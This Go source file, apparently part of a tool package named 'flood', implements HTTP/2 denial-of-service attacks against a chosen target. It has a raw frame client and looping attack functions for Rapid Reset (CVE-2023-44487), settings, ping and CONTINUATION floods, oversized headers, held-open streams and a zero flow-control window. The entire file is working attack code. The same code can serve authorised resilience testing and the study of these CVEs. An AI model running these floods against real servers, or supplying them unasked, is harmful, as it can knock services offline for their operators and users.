package flood

import (
	"bytes"
	"context"
	"crypto/tls"
	"io"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2 is an HTTP/2 client that keeps to no rules but those of the frame.
type h2 struct {
	*http2.Framer
	conn   *tls.Conn
	target Target
	stream uint32        // the last one opened is one less
	over   chan struct{} // closed when the server has hung up
}

// speakH2 connects and sends preface and settings. What the server says is read
// and dropped.
func speakH2(ctx context.Context, t Target, settings ...http2.Setting) (*h2, error) {
	c, err := t.secure(ctx, "h2")
	if err != nil {
		return nil, err
	}
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		c.Close()
		return nil, err
	}
	h := &h2{Framer: http2.NewFramer(c, nil), conn: c, target: t, over: make(chan struct{})}
	if err := h.WriteSettings(settings...); err != nil {
		c.Close()
		return nil, err
	}
	go func() {
		io.Copy(io.Discard, c)
		c.Close() // whoever writes hears of it
		close(h.over)
	}()
	return h, nil
}

// headers is a request, with more fields.
func (h *h2) headers(more ...hpack.HeaderField) []byte {
	var b bytes.Buffer
	enc := hpack.NewEncoder(&b)
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: h.target.Host}, {Name: ":path", Value: h.target.Path},
	}, more...) {
		_ = enc.WriteField(f) // to a buffer
	}
	return b.Bytes()
}

// open opens a stream with a request.
func (h *h2) open(end bool, more ...hpack.HeaderField) error {
	h.stream += 2
	return h.WriteHeaders(http2.HeadersFrameParam{
		StreamID: h.stream - 1, BlockFragment: h.headers(more...), EndStream: end, EndHeaders: true,
	})
}

// withH2 has f do its worst over and over until it is thrown out.
func withH2(ctx context.Context, t Target, f func(*h2) error, settings ...http2.Setting) error {
	h, err := speakH2(ctx, t, settings...)
	if err != nil {
		return err
	}
	defer h.conn.Close()
	for ctx.Err() == nil {
		if err := f(h); err != nil {
			return err
		}
	}
	return ctx.Err()
}

// RapidReset opens streams and resets each at once (CVE-2023-44487).
func RapidReset(ctx context.Context, t Target) error {
	return withH2(ctx, t, func(h *h2) error {
		if err := h.open(true); err != nil {
			return err
		}
		return h.WriteRSTStream(h.stream-1, http2.ErrCodeCancel)
	})
}

// SettingsFlood sends settings, each of which must be acknowledged
// (CVE-2019-9515).
func SettingsFlood(ctx context.Context, t Target) error {
	return withH2(ctx, t, func(h *h2) error { return h.WriteSettings() })
}

// PingFlood sends pings, each of which must be answered (CVE-2019-9512).
func PingFlood(ctx context.Context, t Target) error {
	return withH2(ctx, t, func(h *h2) error { return h.WritePing(false, [8]byte{}) })
}

// ContinuationFlood sends headers that never end (CVE-2023-45288).
func ContinuationFlood(ctx context.Context, t Target) error {
	begun := false
	return withH2(ctx, t, func(h *h2) error {
		if !begun {
			begun = true
			return h.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.headers(), EndStream: true})
		}
		var b bytes.Buffer
		_ = hpack.NewEncoder(&b).WriteField(hpack.HeaderField{Name: "x", Value: string(bytes.Repeat([]byte("x"), 8000))})
		return h.WriteContinuation(1, false, b.Bytes())
	})
}

// BigHeadersH2 sends requests with far more headers than the server takes.
func BigHeadersH2(ctx context.Context, t Target) error {
	field := hpack.HeaderField{Name: "x", Value: string(bytes.Repeat([]byte("x"), 12000))}
	return withH2(ctx, t, func(h *h2) error { return h.open(true, field) })
}

// OpenStreams opens streams whose requests never end.
func OpenStreams(ctx context.Context, t Target) error {
	const most = 16 // what the server allows; beyond, it resets them
	return withH2(ctx, t, func(h *h2) error {
		if h.stream/2 < most {
			return h.open(false)
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-h.over:
			return io.EOF
		}
	})
}

// ZeroWindow asks for answers and has no room for any.
func ZeroWindow(ctx context.Context, t Target) error {
	return withH2(ctx, t, func(h *h2) error {
		for h.stream/2 < 16 {
			if err := h.open(true); err != nil {
				return err
			}
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-h.over:
			return io.EOF
		}
	}, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
}
